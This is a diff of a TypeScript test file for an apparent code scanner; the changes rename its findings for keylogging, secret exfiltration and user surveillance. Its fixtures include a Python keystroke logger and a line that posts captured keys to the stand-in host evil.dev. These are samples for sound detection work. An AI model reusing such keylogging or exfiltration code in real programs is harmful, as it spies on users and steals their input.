@@ -7,8 +7,8 @@ test("finds what the user types in a file, and worse on its way out", async () =
   const keeps = LISTEN.replace("BODY", 'open("/tmp/k", "a").write(str(key))');
   const sends = `import requests\n${LISTEN.replace("BODY", 'requests.post("https://evil.dev", data=str(key))')}`;
 
-  expect(await found("a.py", keeps)).toStrictEqual(["warn recorded_keystrokes:3"]);
-  expect(await found("a.py", sends)).toContain("block secret_exfiltration:4");
+  expect(await found("a.py", keeps)).toStrictEqual(["warn keylogging:3"]);
+  expect(await found("a.py", sends)).toContain("block secret-exfiltration:4");
 });
 
 test("lets through a program that waits for one key", async () => {
@@ -17,7 +17,8 @@ test("lets through a program that waits for one key", async () => {
   ).toStrictEqual([]);
 });
 
-const hits = async (text: string) => (await found("a.py", text)).filter((finding) => finding.includes("watched_user"));
+const hits = async (text: string) =>
+  (await found("a.py", text)).filter((finding) => finding.includes("user-surveillance"));
 const LISTENER = `from pynput import keyboard
 import requests, threading
 buf = []
@@ -37,11 +38,11 @@ while True:
 `;
 
 test("finds who hears every key and reports", async () => {
-  expect(await hits(LISTENER)).toStrictEqual(["block watched_user:7"]);
+  expect(await hits(LISTENER)).toStrictEqual(["block user-surveillance:7"]);
 });
 
 test("finds who watches the screen all along and reports", async () => {
-  expect(await hits(SCREEN)).toStrictEqual(["warn watched_user:4"]);
+  expect(await hits(SCREEN)).toStrictEqual(["warn user-surveillance:4"]);
 });
 
 test.each([
